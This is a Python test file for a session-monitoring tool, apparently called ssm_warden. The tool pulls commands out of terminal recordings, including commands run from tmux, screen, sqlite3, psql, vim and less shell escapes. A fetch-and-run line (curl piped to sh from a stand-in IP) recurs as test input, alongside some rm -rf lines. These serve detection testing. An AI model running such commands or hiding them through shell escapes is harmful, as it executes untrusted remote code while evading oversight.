"""Programs with their own prompt and multiplexers, the cases the real recordings showed
(``test_program_recordings``), each reduced to the lines that matter."""

from __future__ import annotations

from ssm_warden.transcript.extract import Extracted, extract_lines
from ssm_warden.transcript.model import PROMPT_CHANGED
from ssm_warden.transcript.prompts import enters_multiplexer, program_of

AL2 = "[ssm-user@ip-10-0-1-23 tmp]$ "
CURL = "curl -s http://198.51.100.7/x | sh"


def commands(result: Extracted) -> list[tuple[str, str]]:
    return [(c.text, c.confidence) for c in result.commands]


def test_a_shell_started_with_the_same_prompt_is_known_at_once_and_a_file_it_shows_is_output() -> None:
    # Given a shell started inside the session (bash, script, tmux's inner shell) whose prompt is
    # the session's own, then a file with a prompt-like line shown from it
    result = extract_lines(
        [
            f"{AL2}{AL2}bash",
            f"{AL2}id",
            "uid=1001",
            f"{AL2}cat notes",
            "[root@build-01 ~]# rm -rf /opt/x",
            AL2,
        ]
    )
    # Then the file's line is output: the new shell's prompt was the one already known
    assert [t for t, _ in commands(result)] == ["bash", "id", "cat notes"]


def test_a_program_whose_name_ends_in_a_digit_has_its_own_prompt() -> None:
    # Given sqlite3 (its name ends in a digit, as python3's does) and its .shell escape
    sqlite = ["SQLite version 3.40.1", f"sqlite> .shell {CURL}", "sqlite> select 1;", "1", "sqlite> .quit"]
    result = extract_lines([f"{AL2}{AL2}sqlite3", *sqlite, f"{AL2}id"])
    # Then what sqlite runs in a shell is judged, run from sqlite3, medium; its prompt is not learned
    assert (CURL, "medium") in commands(result)
    assert next(c for c in result.commands if c.text == CURL).how == "run from sqlite3"
    assert PROMPT_CHANGED not in result.flags
    assert commands(result)[-1] == ("id", "high")
    assert program_of("sqlite3 data.db") == "sqlite3" and program_of("sqlite3 data.db 'select 1'") is None


def test_zsh_prompt_after_a_full_screen_programs_last_row_is_found() -> None:
    # Given zsh's prompt (marker after it) drawn on the row less left its status on
    raw = "README.md (END)#" + " " * 79 + "vm# \x1b[K\x1b[?2004he\x08echo after-less\x1b[?2004l"
    result = extract_lines(["vm# vm# less README.md", "# Installing", raw, "after-less", "vm# "])
    # Then the command typed at that prompt is found
    assert ("echo after-less", "high") in commands(result)


def test_a_program_that_exits_at_once_leaves_the_shells_prompt_to_the_shell() -> None:
    # Given psql that cannot connect, at a zsh prompt that looks like a psql one (``vm# ``)
    lines = ["vm# vm# psql -h db -U app app", "psql: error: connection to server failed", "vm# sqlite3"]
    lines += ["SQLite version 3.40.1", "sqlite> .quit", "vm# id"]
    # Then the shell's next commands are the shell's, of high confidence
    result = extract_lines(lines)
    assert commands(result) == [
        ("psql -h db -U app app", "high"),
        ("sqlite3", "high"),
        (".quit", "medium"),
        ("id", "high"),
    ]


STATUS = '[rec] 0:bash* 1:bash-                    "host" 22:52 01-Dec-26\x1b(B\x1b[m\x1b[?12l\x1b[?25h'


def test_inside_tmux_input_drawn_after_an_earlier_prompt_row_is_the_command_and_status_is_not() -> None:
    # Given a tmux session: its status line, the inner prompt on a row of its own, then the
    # typed command drawn at the column after that prompt (a cursor position)
    prompt = "[root@vm rec]# "
    lines = [
        f"{prompt}{prompt}tmux new -s rec",
        "\x1b[?1049h\x1b[H\x1b[2J\x1b(B\x1b[m\x1b[1;24r\x1b[1;1H\x1b[K",
        f"{STATUS}\x1b[1;1H\x1b[?2004h{prompt}{CURL}",
        prompt,
        f"{STATUS}\x1b[2;{len(prompt) + 1}Hecho one",
        "one",
        prompt,
        f"{STATUS}\x1b[24;1H",  # the cursor left on the status row: nothing of the pane
        "\x1b[?1049l[exited]",
        f"{prompt}echo after",
    ]
    result = extract_lines(lines)
    # Then the inner commands are judged (one joined from tmux's drawing: medium), the status
    # line never is
    assert commands(result) == [
        ("tmux new -s rec", "high"),
        (CURL, "high"),
        ("echo one", "medium"),
        ("echo after", "high"),
    ]
    assert "inside tmux" in result.commands[1].how
    assert "unwatchable:tmux" in result.flags


def test_input_drawn_at_another_column_is_not_taken_for_the_prompts() -> None:
    prompt = "[root@vm rec]# "
    lines = [f"{prompt}{prompt}tmux", f"{STATUS}\x1b[1;1H{prompt}ls", prompt, f"{STATUS}\x1b[3;40H{CURL}"]
    assert CURL not in [t for t, _ in commands(extract_lines(lines))]


def test_which_tmux_and_screen_commands_enter_the_multiplexer() -> None:
    assert enters_multiplexer("tmux") == "tmux"
    assert enters_multiplexer("tmux -f /dev/null new -s rec") == "tmux"
    assert enters_multiplexer("sudo tmux attach -t ops") == "tmux"
    assert enters_multiplexer("screen -r") == "screen"
    assert enters_multiplexer("tmux ls") is None
    assert enters_multiplexer("tmux kill-server") is None
    assert enters_multiplexer("screen -ls") is None


def test_psql_prompt_and_its_shell_escape() -> None:
    lines = ["vm# vm# psql -U app app", "psql (15.5)", "app=# select 1;", "app=# \\! " + CURL, "app=# \\q"]
    result = extract_lines([*lines, "vm# id"])
    assert next(c for c in result.commands if c.text == CURL).how == "run from psql"
    assert commands(result)[-1] == ("id", "high")


def test_text_shown_by_vim_or_less_that_mentions_an_escape_is_not_a_command() -> None:
    # Given a file whose text mentions vim's :! and has a '!' in a sentence, shown in vim and less
    vim_screen = "see :!ls for a listing" + " " * 58 + "~" + " " * 79 + "~" + " " * 79 + ":q!"
    vim = extract_lines(["vm# vm# vim -u NONE notes", vim_screen, "vm# id"])
    less = extract_lines(
        ["vm# vm# less notes", "Warning! rm -rf /srv/cache removes it", "notes (END)q", "vm# id"]
    )
    # Then neither is judged as a command run from the program
    assert [c.text for c in vim.commands] == ["vim -u NONE notes", "id"]
    assert [c.text for c in less.commands] == ["less notes", "id"]


def test_commands_on_vims_and_less_command_lines_are_judged() -> None:
    vim_screen = "~" + " " * 79 + "~" + " " * 79 + f":!{CURL}:!{CURL}"
    vim = extract_lines(
        ["vm# vm# vim -u NONE notes", vim_screen, "uid=0", "Press ENTER or type command", "vm# id"]
    )
    assert (CURL, "medium") in commands(vim)
    for shown in (f"notes (END)!{CURL}!{CURL}", f"!{CURL}", f":!{CURL}", f"notes lines 1-20/200 10%!{CURL}"):
        less = extract_lines(["vm# vm# less notes", shown, "!done  (press RETURN)", "vm# id"])
        assert (CURL, "medium") in commands(less), shown


def test_commands_that_open_a_pager_or_an_editor_by_themselves() -> None:
    from ssm_warden.transcript.implicit import opened_by

    must = {
        "git log": "less",
        "git -C repo log --stat": "less",
        "sudo journalctl -u nginx": "less",
        "systemctl status sshd": "less",
        "git commit": "vim",
        "git rebase -i HEAD~3": "vim",
        "crontab -e": "vim",
        "sudo visudo": "vim",
        "sudo -e /etc/hosts": "vim",
        "sudo -u app crontab -e": "vim",
        "kubectl edit deploy/web": "vim",
        "systemctl edit nginx": "vim",
    }
    must_not = ["git log | head", "git --no-pager log", "git commit -m fix", "journalctl -f", "crontab -l"]
    must_not += ["systemctl restart nginx", "git status", "git log > out.txt", "sudo ls"]
    assert {c: opened_by(c) for c in must} == must
    assert [c for c in must_not if opened_by(c) is not None] == []


def test_a_shell_escape_from_git_logs_pager_is_judged() -> None:
    lines = ["vm# vm# git log", "commit 1f3a9c2", "Author: Dev <dev@example.com>", f":!{CURL}!{CURL}"]
    result = extract_lines([*lines, "!done  (press RETURN)", "vm# id"])
    assert (CURL, "medium") in commands(result)
    assert next(c for c in result.commands if c.text == CURL).how == "run from less"
    assert commands(result)[-1][0] == "id"


def test_inside_screen_commands_are_the_inner_shells_until_it_terminates() -> None:
    lines = ["vm# vm# screen", "vm# id", "uid=0", "vm# exit", "[screen is terminating]", "vm# id"]
    result = extract_lines(lines)
    assert commands(result) == [("screen", "high"), ("id", "high"), ("exit", "high"), ("id", "high")]
    assert [c.how.endswith("inside screen") for c in result.commands] == [False, True, True, False]
    assert "unwatchable:screen" in result.flags


def test_a_row_drawn_in_pieces_on_one_line_is_read_whole() -> None:
    # Given tmux drawing the inner prompt at row 1, the status line, then the typed input at the
    # column after the prompt, all in one line (as the agent sends a raw piece)
    prompt = "[root@vm rec]# "
    line = f"{STATUS}\x1b[1;1H{prompt}\x1b[?2004h\x1b[24;1H{STATUS}\x1b[1;{len(prompt) + 1}Hid"
    result = extract_lines([f"{prompt}{prompt}tmux", line, "uid=0"])
    assert commands(result) == [("tmux", "high"), ("id", "high")]
